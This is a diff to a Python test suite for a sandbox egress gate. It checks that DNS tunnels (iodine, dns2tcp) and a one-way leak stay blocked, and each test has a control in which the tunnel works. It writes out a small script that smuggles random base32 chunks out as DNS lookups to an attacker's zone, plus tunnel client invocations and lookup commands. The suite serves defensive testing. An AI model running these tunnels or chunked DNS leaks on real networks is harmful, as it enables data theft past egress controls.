@@ -2,11 +2,12 @@
 # SPDX-License-Identifier: Apache-2.0
 """Real tunnels and an agent's own commands, from a sandbox whose only way out is the DNS port, to a name server of an attacker's: by default
 nothing leaves. Each beside its control, in which it does. THREATS: J, K. In network and mount namespaces of its own; as root."""
+import contextlib
+import glob
 import os
 import secrets
 import shutil
 import sys
-import time
 
 import dns_lab as D
 import lab as L
@@ -41,20 +42,22 @@ def clients_of(d):
     return [d.client("-d", f"dns{i}", *o) for i, o in enumerate([*options, ()])]
 
 
+def watch(d, clients):
+    """Until each has given up, or one is up, which is what must not be."""
+    wait_for(lambda: all(d.gave_up(p) for p in clients) or any(d.up(p) for p in clients), lambda: [D.read(p)[-300:] for p in clients], 60)
+    assert not any(d.up(p) for p in clients), [D.read(p)[-300:] for p in clients]
+
+
 def test_iodine():
-    """By default it never comes up, and its server hears nothing. The control: the same client and server with a relay in our place."""
+    """By default it gives up, and its server hears nothing. The control: the same client and server with a relay in our place."""
     with D.Net() as net:
         d = D.Iodine(net)
         with outgate() as lab:
-            before, started = datagrams(net), time.monotonic()
-            clients = clients_of(d)
-            seconds = 60 if FULL else 10
-            wait_for(lambda: time.monotonic() - started > seconds or any(d.up(p) for p in clients), "its time", seconds + 10)
-            assert not any(d.up(p) for p in clients) and datagrams(net) == before, [D.read(p)[-300:] for p in clients]
+            before = datagrams(net)
+            watch(d, clients_of(d))
+            assert datagrams(net) == before and not d.heard(), d.heard()
             e = lab.event(lambda e: e.get("qname", "").endswith(D.ZONE) and e["verdict"] == "deny", ("dns",))
             assert e["agent"] == "coder" and e["rcode"] == "REFUSED" and e["code"] == "host_denied", e
-            for p in clients:
-                net.stop(p)
         with D.Relay():
             p = d.client("-TNULL")
             wait_for(lambda: d.up(p), lambda: D.read(p), 30)
@@ -75,7 +78,8 @@ def test_dns2tcp():
             lab.event(lambda e: e.get("qname", "").endswith(D.ZONE) and e["verdict"] == "deny", ("dns",))
         with D.Relay():
             d.client("-T", "TXT")
-            assert d.transfer(8192) == 8192
+            d.transfer(8192)
+            wait_for(lambda: D.got(d.sink) == 8192, lambda: f"{D.got(d.sink)} of 8192 bytes")
 
 
 TUNNELS = f'  - {{name: tunnels, hosts: ["*.{D.ZONE}", {D.ZONE}], dns_types: [A, AAAA, TXT], action: allow}}'
@@ -93,28 +97,52 @@ def test_iodine_under_a_rule():
         with under_a_rule("flag") as lab:
             p = d.client("-TTXT", "-OBase32")
             wait_for(lambda: d.up(p), lambda: D.read(p), 50)
-            assert d.transfer(8192) == 8192
+            assert d.transfer(8192) == 8192 and d.heard_packets()
             lab.event(lambda e: e["class"] == "dns_tunnel" and "evil.test" in e["sentence"], ("finding",))
-            net.stop(p)
+    with D.Net() as net:
+        d = D.Iodine(net)
         with under_a_rule("block") as lab:
-            started = time.monotonic()
-            p = d.client("-TTXT", "-OBase32")
-            e = lab.event(lambda e: e.get("code") == "exfiltration", ("dns",), timeout=30)
+            watch(d, [d.client("-TTXT", "-OBase32")])
+            e = lab.event(lambda e: e.get("code") == "exfiltration", ("dns",))
             assert e["qname"].endswith(D.ZONE) and e["rcode"] == "REFUSED" and e["rule"] == "tunnels", e
-            wait_for(lambda: time.monotonic() - started > (60 if FULL else 10) or d.up(p), "its time", 70)
-            assert not d.up(p), D.read(p)
+            assert not d.heard_packets()
+
+
+ONE_WAY = """
+import socket, sys
+for label in sys.argv[2:]:
+    try:
+        socket.gethostbyname(f"{label}.{sys.argv[1]}.")
+    except OSError:
+        pass
+"""
+CHUNKS, CHUNK = 200, 8  # names, characters of base32 in each, too few to look encoded
+
+
+def one_way(net, d, action):
+    """No rule names the zone, `mode: observe` lets questions for addresses through: iodine, then data that asks for no answer."""
+    tail = f"mode: observe\nexfiltration: {{dns_tunnel: {{action: {action}}}}}\nlimits: {{dns_rate: 100000}}\n"
+    with outgate(resolver="  answer: forward", tail=tail) as lab:
+        watch(d, [d.client("-d", f"dns{i}", "-OBase32", *o) for i, o in enumerate([(), ("-TA",)])])
+        lab.event(lambda e: e.get("qname", "").endswith(ELSEWHERE) and e["verdict"] == "observe", ("dns",))
+        chunks = ["z" + "".join(secrets.choice("abcdefghijklmnopqrstuvwxyz012345") for _ in range(CHUNK - 1)) for _ in range(CHUNKS)]
+        net.run("sandbox", sys.executable, "-c", ONE_WAY, ELSEWHERE, *chunks, timeout=50)
+        if action == "block":
+            e = lab.event(lambda e: e.get("code") == "exfiltration", ("dns",))
+            assert e["qname"].endswith(ELSEWHERE) and e["rcode"] == "REFUSED" and e["rule"] is None, e
+        return len(d.heard() & set(chunks))
 
 
 def test_iodine_in_observe_mode():
-    """No rule names the zone, `mode: observe` lets questions through: its first attempts may be heard, the link never comes up."""
+    """The link never comes up, and what its server can be told one way ends with the budget of a zone: 128 bytes, less than 256 however they are counted. The
+    control: with dns_tunnel.action: flag more than that arrives."""
     with D.Net() as net:
         d = D.Iodine(net, ELSEWHERE)
-        with outgate(resolver="  answer: forward", tail="mode: observe\nlimits: {dns_rate: 100000}\n") as lab:
-            before, started = datagrams(net), time.monotonic()
-            p = d.client("-OBase32")
-            lab.event(lambda e: e["qname"].endswith(ELSEWHERE) and e["verdict"] == "observe", ("dns",))
-            wait_for(lambda: time.monotonic() - started > (60 if FULL else 10) or d.up(p), "its time", 70)
-            assert not d.up(p) and datagrams(net) - before < 100, (D.read(p), datagrams(net) - before)
+        assert one_way(net, d, "block")
+        assert d.heard_bytes() <= 256 and not d.heard_packets(), (d.heard_bytes(), d.heard())
+    with D.Net() as net:
+        d = D.Iodine(net, ELSEWHERE)
+        assert one_way(net, d, "flag") and d.heard_bytes() > 256, d.heard_bytes()
 
 
 def commands(name):
@@ -130,6 +158,32 @@ def commands(name):
     yield "node", ["node", "-e", f"require('dns').resolveTxt('{name}', () => require('dns').lookup('{name}', () => 0))"]
     yield "python", [sys.executable, "-c", f"import socket\ntry: socket.getaddrinfo('{name}', 80)\nexcept OSError: pass"]
     yield "git", ["git", "ls-remote", f"https://{name}/x.git"]
+
+
+def children():
+    """Of this process, by name."""
+    found = []
+    for stat in glob.glob("/proc/[0-9]*/stat"):
+        with contextlib.suppress(OSError), open(stat) as f:
+            name, rest = f.read().split("(", 1)[1].rsplit(")", 1)
+            if int(rest.split()[1]) == os.getpid():
+                found.append(name)
+    return found
+
+
+def test_net_that_fails_midway():
+    """Its second pair of devices cannot be made: of the first nothing is left. The control: with the name free it is there."""
+    before = children()
+    D.sh("ip", "link", "add", "to-outside", "type", "veth", "peer", "name", "spare")
+    try:
+        D.Net().close()
+    except AssertionError as e:
+        assert "to-outside" in str(e), e
+    else:
+        raise AssertionError("two devices have one name")
+    assert children() == before and "to-sandbox" not in D.sh("ip", "-br", "link"), (children(), D.sh("ip", "-br", "link"))
+    with D.Net():
+        assert len(children()) == len(before) + 2 and "to-sandbox" in D.sh("ip", "-br", "link")
 
 
 def test_commands():
